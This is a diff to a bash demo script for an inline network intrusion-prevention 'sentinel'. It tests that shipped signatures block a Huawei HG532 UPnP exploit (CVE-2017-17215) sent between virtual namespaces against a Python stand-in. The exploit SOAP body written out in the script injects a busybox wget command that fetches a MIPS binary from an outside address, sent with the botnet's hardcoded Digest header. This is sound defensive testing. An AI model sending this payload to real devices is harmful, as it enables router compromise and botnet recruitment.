@@ -1,7 +1,9 @@
 #!/usr/bin/env bash
 # The Sentinel demo (`make demo`): builds the virtual board (namespaces "vendor" and
-# "core" joined only through the sentinel), runs real traffic across it, then stops the
-# sentinel to show that it is inline: with it gone, the two sides cannot talk at all.
+# "core" joined only through the sentinel), runs real traffic across it, sends an exploit
+# for the vendor box's HG532 UPnP service (CVE-2017-17215) that the shipped signatures
+# drop and log to eve.json while ordinary HTTP keeps working, then stops the sentinel to
+# show that it is inline: with it gone, the two sides cannot talk at all.
 #
 # Usage: demo.sh SENTINEL_BINARY        (as root; ends by itself in well under a minute)
 set -euo pipefail
@@ -14,6 +16,9 @@ die() { echo "demo: error: $*" >&2; exit 1; }
 SENTINEL=$(realpath "$1")
 HERE=$(cd "$(dirname "${BASH_SOURCE[0]}")" && pwd)
 TOPOLOGY=$HERE/topology.sh
+# The shipped signatures (config/rules.d of this repository).
+RULES_DIR=$(realpath -m "$HERE/../../config/rules.d")
+[[ -d $RULES_DIR ]] || die "rule directory '$RULES_DIR' not found"
 # Debian's interpreter: the python3 on PATH may be another one (pyenv).
 PYTHON=/usr/bin/python3
 for tool in ip ethtool ping curl sha256sum realpath "$PYTHON"; do
@@ -22,8 +27,15 @@ done
 
 # The demo board: PREFIX "" gives these names (see topology.sh).
 readonly VENDOR_NS=vendor CORE_NS=core VENDOR_PORT=sv-vendor CORE_PORT=sv-core
-readonly CORE_V4=198.51.100.1 CORE_V6=2001:db8:51::1
+readonly CORE_V4=198.51.100.1 CORE_V6=2001:db8:51::1 VENDOR_V4=198.51.100.2
 readonly HTTP_PORT=8080 FILE_MIB=20
+# The vendor box's UPnP service (Huawei HG532: port 37215) and the rule that guards it
+# (config/rules.d/vendor-equipment.toml): action drop, so the attack's flow dies.
+readonly UPNP_PORT=37215 EXPLOIT_SID=2017172150
+# curl's limit for each request to the vendor box; the exploit is expected to hit it.
+readonly REQUEST_TIMEOUT_S=5
+# How long the demo waits for the alert to appear in eve.json.
+readonly ALERT_TIMEOUT_S=5
 readonly FORWARDING_TIMEOUT_S=30
 readonly METRICS_LISTEN=127.0.0.1:9752
 
@@ -45,6 +57,7 @@ out=$tmp/sentinel.out
 sentinel_pid=''
 http_pid=''
 curl_pid=''
+upnp_pid=''
 
 # Stop a background process we started: TERM, up to $2 seconds' grace, then KILL.
 stop_pid() {
@@ -66,6 +79,7 @@ cleanup() {
     [[ -z $sentinel_pid ]] || stop_pid "$sentinel_pid" 5
     [[ -z $http_pid ]] || stop_pid "$http_pid" 2
     [[ -z $curl_pid ]] || stop_pid "$curl_pid" 2
+    [[ -z $upnp_pid ]] || stop_pid "$upnp_pid" 2
     printf '\n%s[teardown]%s removing the virtual board\n' "$B" "$N"
     "$TOPOLOGY" down "" 2>&1 | indent || true
     rm -rf "$tmp/www" "$tmp/download.bin"
@@ -102,6 +116,11 @@ stats_interval = 1
 
 [metrics]
 listen = "$METRICS_LISTEN"
+
+[rules]
+# The shipped signatures; no compiled-database cache, so the demo leaves nothing behind.
+dir = "$RULES_DIR"
+cache_dir = ""
 EOF
 say "$tmp/sentinel.toml:"
 indent <"$tmp/sentinel.toml"
@@ -183,15 +202,222 @@ else
 fi
 stop_pid "$http_pid" 2; http_pid=''
 
+step "Start a stand-in for the vendor box's Huawei HG532 UPnP service (vendor, port $UPNP_PORT)"
+# Answers GET and POST (the UPnP control requests are SOAP POSTs) and logs every request
+# with its body, so the demo can tell what reached the vendor box.
+cat >"$tmp/hg532.py" <<'EOF'
+import http.server
+import sys
+
+SOAP_OK = (b'<?xml version="1.0"?>\n<s:Envelope xmlns:s="http://schemas.xmlsoap.org/soap/envelope/">'
+           b'<s:Body><u:UpgradeResponse xmlns:u="urn:schemas-upnp-org:service:WANPPPConnection:1"/>'
+           b'</s:Body></s:Envelope>\n')
+PAGE = b"<html><body>HG532 (demo stand-in): UPnP control on this port</body></html>\n"
+
+
+class Handler(http.server.BaseHTTPRequestHandler):
+    server_version = "HG532-stand-in/1.0"
+    timeout = 30  # a stalled connection (a dropped flow) must not hold its thread forever
+
+    def answer(self, body, ctype):
+        self.send_response(200)
+        self.send_header("Content-Type", ctype)
+        self.send_header("Content-Length", str(len(body)))
+        self.end_headers()
+        self.wfile.write(body)
+
+    def do_GET(self):
+        self.answer(PAGE, "text/html")
+
+    def do_POST(self):
+        body = self.rfile.read(int(self.headers.get("Content-Length") or 0))
+        print(f"POST {self.path} body: {body.decode(errors='replace')!r}", file=sys.stderr, flush=True)
+        self.answer(SOAP_OK, 'text/xml; charset="utf-8"')
+
+    def log_message(self, fmt, *args):
+        print(f"{self.client_address[0]} {fmt % args}", file=sys.stderr, flush=True)
+
+
+http.server.ThreadingHTTPServer((sys.argv[1], int(sys.argv[2])), Handler).serve_forever()
+EOF
+cmd ip netns exec "$VENDOR_NS" "$PYTHON" hg532.py "$VENDOR_V4" "$UPNP_PORT"
+ip netns exec "$VENDOR_NS" "$PYTHON" "$tmp/hg532.py" "$VENDOR_V4" "$UPNP_PORT" \
+    >"$tmp/hg532.log" 2>&1 </dev/null &
+upnp_pid=$!
+# Ready when it answers inside its own namespace (this does not cross the sentinel).
+for _ in $(seq 1 50); do
+    ip netns exec "$VENDOR_NS" curl -s -o /dev/null --max-time 1 "http://$VENDOR_V4:$UPNP_PORT/" && break
+    kill -0 "$upnp_pid" 2>/dev/null || { indent <"$tmp/hg532.log"; die "the HG532 stand-in did not start"; }
+    sleep 0.2
+done
+ip netns exec "$VENDOR_NS" curl -s -o /dev/null --max-time 1 "http://$VENDOR_V4:$UPNP_PORT/" \
+    || { indent <"$tmp/hg532.log"; die "the HG532 stand-in does not answer on $VENDOR_V4:$UPNP_PORT"; }
+say "listening on $VENDOR_V4:$UPNP_PORT"
+
+upnp_url="http://$VENDOR_V4:$UPNP_PORT"
+# A request from core to the vendor box, across the sentinel. Prints the HTTP status
+# ("000" when no response came); the body goes to $tmp/NAME.body, curl's errors to
+# $tmp/NAME.err. Its status is curl's.
+request_from_core() {
+    local name=$1
+    shift
+    ip netns exec "$CORE_NS" curl -sS --max-time "$REQUEST_TIMEOUT_S" -o "$tmp/$name.body" \
+        -w '%{http_code}' "$@" 2>"$tmp/$name.err"
+}
+# An ordinary GET from core must get its 200.
+check_ordinary_get() {
+    local name=$1 what=$2 code rc=0
+    cmd ip netns exec "$CORE_NS" curl --max-time "$REQUEST_TIMEOUT_S" "$upnp_url/"
+    code=$(request_from_core "$name" "$upnp_url/") || rc=$?
+    if (( rc == 0 )) && [[ $code == 200 ]]; then
+        indent <"$tmp/$name.body"
+        pass "$what (HTTP $code)"
+    else
+        indent <"$tmp/$name.err"
+        fail "$what (curl exit $rc, HTTP ${code:-none})"
+    fi
+}
+
+# The UPnP control request of the HG532 (a SOAP POST to /ctrlt/DeviceUpgrade_1), once as
+# the device's own management would send it and once as the Satori/Mirai-variant exploit
+# does: a shell command substitution in NewStatusURL.
+soap_body() {
+    cat <<EOF
+<?xml version="1.0" ?>
+<s:Envelope xmlns:s="http://schemas.xmlsoap.org/soap/envelope/" s:encodingStyle="http://schemas.xmlsoap.org/soap/encoding/">
+<s:Body><u:Upgrade xmlns:u="urn:schemas-upnp-org:service:WANPPPConnection:1">
+<NewStatusURL>$1</NewStatusURL>
+<NewDownloadURL>$2</NewDownloadURL>
+</u:Upgrade>
+</s:Body>
+</s:Envelope>
+EOF
+}
+# shellcheck disable=SC2016 # the $( ) is the attack's payload, not ours to expand
+soap_body 'http://update.example.net/status' 'http://update.example.net/fw.bin' >"$tmp/upgrade.xml"
+# shellcheck disable=SC2016
+soap_body '$(/bin/busybox wget -g 203.0.113.7 -l /tmp/x -r /mips)' '$(echo HUAWEIUPNP)' >"$tmp/exploit.xml"
+upnp_post() {
+    local name=$1 file=$2
+    request_from_core "$name" -X POST -H 'Expect:' -H 'Content-Type: text/xml' \
+        -H 'SOAPAction: "urn:schemas-upnp-org:service:WANPPPConnection:1#Upgrade"' \
+        -H 'Authorization: Digest username="dslf-config", realm="HuaweiHomeGateway", nonce="88645cefb1f9ede0e336e3569d75ee30", uri="/ctrlt/DeviceUpgrade_1", response="3612f843a42db38f48f59d2a3597e19c", algorithm="MD5", qop="auth", nc=00000001, cnonce="248d1a2560100669"' \
+        --data-binary "@$file" "$upnp_url/ctrlt/DeviceUpgrade_1"
+}
+
+step "Ordinary traffic from core to the vendor box passes the signatures"
+check_ordinary_get get1 "HTTP GET core -> vendor:$UPNP_PORT"
+say "a legitimate UPnP upgrade call: same URL, a plain status URL (the rule's pcre does not match):"
+cmd ip netns exec "$CORE_NS" curl --max-time "$REQUEST_TIMEOUT_S" -X POST --data-binary @upgrade.xml \
+    "$upnp_url/ctrlt/DeviceUpgrade_1"
+rc=0; code=$(upnp_post upgrade "$tmp/upgrade.xml") || rc=$?
+if (( rc == 0 )) && [[ $code == 200 ]]; then
+    indent <"$tmp/upgrade.body"
+    pass "legitimate UPnP POST core -> vendor:$UPNP_PORT (HTTP $code)"
+else
+    indent <"$tmp/upgrade.err"
+    fail "legitimate UPnP POST core -> vendor:$UPNP_PORT (curl exit $rc, HTTP ${code:-none})"
+fi
+
+step "Attack: the HG532 UPnP command injection (CVE-2017-17215) from core to the vendor box"
+say "the request body (as botnets send it; the \$( ) would run on the router):"
+indent <"$tmp/exploit.xml"
+cmd "ip netns exec $CORE_NS curl --max-time $REQUEST_TIMEOUT_S -X POST" \
+    "-H 'Authorization: Digest username=\"dslf-config\", ...' --data-binary @exploit.xml" \
+    "$upnp_url/ctrlt/DeviceUpgrade_1"
+rc=0; code=$(upnp_post exploit "$tmp/exploit.xml") || rc=$?
+indent <"$tmp/exploit.err"
+if (( rc == 0 )); then
+    indent <"$tmp/exploit.body"
+    fail "the exploit got a response (HTTP $code): the sentinel did not stop it"
+else
+    case $rc in
+        28) why="no response within ${REQUEST_TIMEOUT_S} s" ;;
+        52 | 56) why="the connection ended without a response" ;;
+        *) why="curl exit $rc" ;;
+    esac
+    pass "the exploit failed: $why (curl exit $rc, HTTP $code)"
+fi
+# The stand-in logs every body it reads: the payload must not be among them.
+# shellcheck disable=SC2016 # literal: the start of the injected command substitution
+injection='NewStatusURL>$('
+if grep -qF "$injection" "$tmp/hg532.log"; then
+    fail "the injected command reached the vendor box:"
+    grep -F "$injection" "$tmp/hg532.log" | indent
+else
+    pass "the injected command never reached the vendor box (its request log has no such body)"
+fi
+
+step "The alert in eve.json ($tmp/log/eve.json)"
+# Every alert of one signature in eve.json, pretty-printed; status 1 when there is none.
+# With --check, also status 1 unless every one of them was blocked and dropped.
+cat >"$tmp/eve_alerts.py" <<'EOF'
+import json
+import sys
+
+path, sid = sys.argv[1], int(sys.argv[2])
+check = "--check" in sys.argv[3:]
+found = []
+try:
+    with open(path, encoding="utf-8") as f:
+        for line in f:
+            try:
+                event = json.loads(line)
+            except ValueError:
+                continue  # a line still being written
+            if event.get("event_type") == "alert" and event.get("alert", {}).get("signature_id") == sid:
+                found.append(event)
+except FileNotFoundError:
+    pass
+for event in found:
+    print(json.dumps(event, indent=2))
+ok = bool(found)
+if check:
+    ok = ok and all(e["alert"].get("action") == "blocked"
+                    and e.get("sentinel", {}).get("verdict") == "dropped" for e in found)
+sys.exit(0 if ok else 1)
+EOF
+eve_alerts() { "$PYTHON" "$tmp/eve_alerts.py" "$tmp/log/eve.json" "$EXPLOIT_SID" "$@"; }
+say "waiting (up to ${ALERT_TIMEOUT_S} s) for the alert of sid $EXPLOIT_SID"
+deadline=$((SECONDS + ALERT_TIMEOUT_S))
+until eve_alerts >/dev/null || (( SECONDS >= deadline )); do sleep 0.2; done
+say "the alert lines of sid $EXPLOIT_SID, pretty-printed:"
+if eve_alerts | indent; then
+    if eve_alerts --check >/dev/null; then
+        pass "sid $EXPLOIT_SID alerted: action blocked, verdict dropped"
+    else
+        fail "sid $EXPLOIT_SID alerted, but not as blocked/dropped"
+    fi
+else
+    fail "no alert of sid $EXPLOIT_SID in eve.json within ${ALERT_TIMEOUT_S} s"
+    # Tell "never raised" from "raised but not (yet) written to the file".
+    raised=$(curl -sf --max-time 5 "http://$METRICS_LISTEN/metrics" \
+        | awk '/^sentinel_alerts_total\{/ {n += $2} END {print n + 0}') || raised='?'
+    say "eve.json holds $(wc -l <"$tmp/log/eve.json" 2>/dev/null || echo 0) line(s);" \
+        "the sentinel's metrics count $raised alert(s) raised (sentinel_alerts_total)"
+fi
+
+step "Ordinary HTTP to the vendor box keeps working after the attack"
+check_ordinary_get get2 "HTTP GET core -> vendor:$UPNP_PORT after the attack"
+stop_pid "$upnp_pid" 2; upnp_pid=''
+
 step "What Prometheus sees: the sentinel's /metrics (management address $METRICS_LISTEN)"
 cmd curl -s "http://$METRICS_LISTEN/metrics"
 if metrics=$(curl -sf --max-time 5 "http://$METRICS_LISTEN/metrics"); then
-    grep -E '^sentinel_(packets_total|port_up|drops_total\{reason="tx_full")' <<<"$metrics" | indent
+    grep -E '^sentinel_(packets_total|port_up|drops_total\{reason="(tx_full|signature|flow_blocked|bad_checksum)")' \
+        <<<"$metrics" | indent
+    grep -E '^sentinel_(rules_loaded|alerts_total)' <<<"$metrics" | awk '$2 != 0' | indent
     forwarded=$(awk '/^sentinel_packets_total\{direction="to_core",verdict="forwarded"\}/ {print $2}' <<<"$metrics")
     if [[ -n $forwarded && $forwarded != 0 ]]; then
         pass "the metrics count the frames that crossed ($forwarded to_core)"
     else
         fail "the metrics show no forwarded frames"
+    fi
+    by_signature=$(awk '/^sentinel_drops_total\{reason="signature"\}/ {print $2}' <<<"$metrics")
+    if [[ -n $by_signature && $by_signature != 0 ]]; then
+        pass "the metrics count the attack's drop (reason signature: $by_signature)"
+    else
+        fail "the metrics show no drop for reason signature"
     fi
 else
     fail "no /metrics at $METRICS_LISTEN"
